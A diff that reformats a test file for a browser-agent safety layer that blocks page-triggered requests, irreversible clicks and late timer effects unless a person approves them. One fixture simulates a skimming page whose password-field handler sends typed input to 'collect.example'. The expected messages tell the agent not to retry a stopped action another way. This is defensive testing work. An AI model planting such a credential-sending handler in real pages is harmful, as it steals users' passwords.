@@ -1,6 +1,16 @@
 // @vitest-environment happy-dom
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
-import { activate, createLookTools, createRefRegistry, fenceEffects, fill, outlinePage, outsideFence, renderOutline, type EffectStep } from '../../src/dom/index.js';
+import {
+  activate,
+  createLookTools,
+  createRefRegistry,
+  fenceEffects,
+  fill,
+  outlinePage,
+  outsideFence,
+  renderOutline,
+  type EffectStep,
+} from '../../src/dom/index.js';
 import { lineOf, refIn } from './fixtures.js';
 
 /*
@@ -49,7 +59,11 @@ beforeEach(() => {
     return true;
   });
   put(HTMLFormElement.prototype, 'submit', function (this: HTMLFormElement) {
-    sent.push({ kind: 'submit', method: (this.getAttribute('method') ?? 'get').toUpperCase(), url: new URL(this.getAttribute('action') ?? '', location.href).href });
+    sent.push({
+      kind: 'submit',
+      method: (this.getAttribute('method') ?? 'get').toUpperCase(),
+      url: new URL(this.getAttribute('action') ?? '', location.href).href,
+    });
   });
 });
 
@@ -77,8 +91,12 @@ describe('fenceEffects', () => {
     );
     expect(sent).toEqual([]);
     expect(pageSaw).toBe('TypeError');
-    expect(effects).toMatchObject([{ kind: 'request', method: 'DELETE', outcome: 'stopped', words: 'It sends a DELETE to /api/account', consequence: 'delete' }]);
-    expect(stopped).toBe('The page then tried to send a DELETE to /api/account (stopped: nobody here can approve it). It did not happen; do not try it again another way.');
+    expect(effects).toMatchObject([
+      { kind: 'request', method: 'DELETE', outcome: 'stopped', words: 'It sends a DELETE to /api/account', consequence: 'delete' },
+    ]);
+    expect(stopped).toBe(
+      'The page then tried to send a DELETE to /api/account (stopped: nobody here can approve it). It did not happen; do not try it again another way.',
+    );
   });
 
   it('asks in words that name the effect, and a yes sends it as the page made it (the page gets the real response)', async () => {
@@ -134,7 +152,10 @@ describe('fenceEffects', () => {
     );
     expect(sent).toEqual([]);
     expect(events).toEqual(['error 0']);
-    expect(no.effects.map((effect) => `${effect.kind}: ${effect.words}`)).toEqual(['request: It sends a POST to /api/upgrade: plan', 'beacon: It sends a beacon (a POST) to /api/analytics']);
+    expect(no.effects.map((effect) => `${effect.kind}: ${effect.words}`)).toEqual([
+      'request: It sends a POST to /api/upgrade: plan',
+      'beacon: It sends a beacon (a POST) to /api/analytics',
+    ]);
     expect(no.stopped).toContain('the user did not approve it');
 
     const asked: EffectStep[] = [];
@@ -203,8 +224,16 @@ describe('fenceEffects', () => {
 
   it('puts back every global it patched, exactly, and only when the last of nested fences closes', async () => {
     const watched: Array<[object, string]> = [
-      [window, 'fetch'], [window, 'open'], [window, 'setTimeout'], [window, 'setInterval'], [window, 'clearTimeout'], [window, 'queueMicrotask'],
-      [XMLHttpRequest.prototype, 'open'], [XMLHttpRequest.prototype, 'send'], [Navigator.prototype, 'sendBeacon'], [HTMLFormElement.prototype, 'submit'],
+      [window, 'fetch'],
+      [window, 'open'],
+      [window, 'setTimeout'],
+      [window, 'setInterval'],
+      [window, 'clearTimeout'],
+      [window, 'queueMicrotask'],
+      [XMLHttpRequest.prototype, 'open'],
+      [XMLHttpRequest.prototype, 'send'],
+      [Navigator.prototype, 'sendBeacon'],
+      [HTMLFormElement.prototype, 'submit'],
     ];
     const snapshot = () => watched.map(([target, key]) => Object.getOwnPropertyDescriptor(target, key));
     const before = snapshot();
@@ -233,7 +262,12 @@ describe('fenceEffects', () => {
   it('stops, unasked, what a late timer of an action sets off after the fence closed, and tells the host', async () => {
     const late: string[] = [];
     const asked: EffectStep[] = [];
-    await fenceEffects(() => void setTimeout(() => fetch('/api/late', { method: 'POST' }).catch(() => undefined), 120), { settleMs: 10, maxMs: 30, confirm: yes(asked), onLate: (effect) => late.push(`${effect.what}: ${effect.reason}`) });
+    await fenceEffects(() => void setTimeout(() => fetch('/api/late', { method: 'POST' }).catch(() => undefined), 120), {
+      settleMs: 10,
+      maxMs: 30,
+      confirm: yes(asked),
+      onLate: (effect) => late.push(`${effect.what}: ${effect.reason}`),
+    });
     // The next action's fence is open when the timer fires: it is still not that action's effect.
     const next = await fenceEffects(() => undefined, { settleMs: 200, confirm: yes(asked) });
     expect(late).toEqual(['send a POST to /api/late: it came from the action after it had ended, when no one could be asked']);
@@ -266,10 +300,16 @@ describe('the fence around page actions', () => {
   }
 
   it('activate: a type=button whose handler DELETEs asks first by its name, then about the DELETE; a no cancels it and says so', async () => {
-    const { registry, ref } = outline('<main><button type="button" id="del">Check display name</button><button type="button" id="gone">Delete account now</button></main>');
+    const { registry, ref } = outline(
+      '<main><button type="button" id="del">Check display name</button><button type="button" id="gone">Delete account now</button></main>',
+    );
     document.getElementById('del')?.addEventListener('click', () => void fetch('/api/account', { method: 'DELETE' }).catch(() => undefined));
     const asked: EffectStep[] = [];
-    const result = await activate(ref('Check display name'), { registry, ...QUICK, confirm: (step) => (asked.push(step as EffectStep), { approved: false, reason: 'the task is only to check the name' }) });
+    const result = await activate(ref('Check display name'), {
+      registry,
+      ...QUICK,
+      confirm: (step) => (asked.push(step as EffectStep), { approved: false, reason: 'the task is only to check the name' }),
+    });
     expect(asked.map((step) => step.detail)).toEqual(['Click the button "Check display name". It sends a DELETE to /api/account.']);
     expect(result).toMatchObject({ ok: false, reason: 'denied' });
     expect(!result.ok && result.message).toContain('The page then tried to send a DELETE to /api/account (stopped: the task is only to check the name)');
@@ -279,8 +319,18 @@ describe('the fence around page actions', () => {
     const clicked: string[] = [];
     document.getElementById('gone')?.addEventListener('click', () => clicked.push('gone'));
     const before: EffectStep[] = [];
-    const refused = await activate(ref('Delete account now'), { registry, ...QUICK, confirm: (step) => (before.push(step as EffectStep), { approved: false }) });
-    expect(before).toMatchObject([{ risk: 'irreversible', detail: 'Click the button "Delete account now". Its name says it closes an account, which may not be undone.', consequence: 'close-account' }]);
+    const refused = await activate(ref('Delete account now'), {
+      registry,
+      ...QUICK,
+      confirm: (step) => (before.push(step as EffectStep), { approved: false }),
+    });
+    expect(before).toMatchObject([
+      {
+        risk: 'irreversible',
+        detail: 'Click the button "Delete account now". Its name says it closes an account, which may not be undone.',
+        consequence: 'close-account',
+      },
+    ]);
     expect(refused).toMatchObject({ ok: false, reason: 'denied' });
     expect(clicked).toEqual([]);
   });
@@ -302,8 +352,18 @@ describe('the fence around page actions', () => {
     const { registry, ref } = outline(`<main><form><h2>Sign in</h2><label>Password <input type="password" id="pw" name="pw"></label>
       <label>Card number <input id="card" name="card"></label></form></main>`);
     // A page that sends what is typed, in the URL, to another site, under a key that does not say "password".
-    document.getElementById('pw')?.addEventListener('input', (event) => void fetch(`https://collect.example/c?q=${encodeURIComponent((event.target as HTMLInputElement).value)}`).catch(() => undefined));
-    document.getElementById('card')?.addEventListener('change', (event) => void fetch('/api/check', { method: 'POST', body: `{"n":"${(event.target as HTMLInputElement).value}"}` }).catch(() => undefined));
+    document
+      .getElementById('pw')
+      ?.addEventListener(
+        'input',
+        (event) => void fetch(`https://collect.example/c?q=${encodeURIComponent((event.target as HTMLInputElement).value)}`).catch(() => undefined),
+      );
+    document
+      .getElementById('card')
+      ?.addEventListener(
+        'change',
+        (event) => void fetch('/api/check', { method: 'POST', body: `{"n":"${(event.target as HTMLInputElement).value}"}` }).catch(() => undefined),
+      );
     const asked: EffectStep[] = [];
     const confirm = (step: EffectStep) => (asked.push(step), { approved: false });
     const typed = await fill(ref('Password'), '{{secret:password}}', { registry, ...QUICK, secrets: { password: 'correct horse battery' }, confirm });
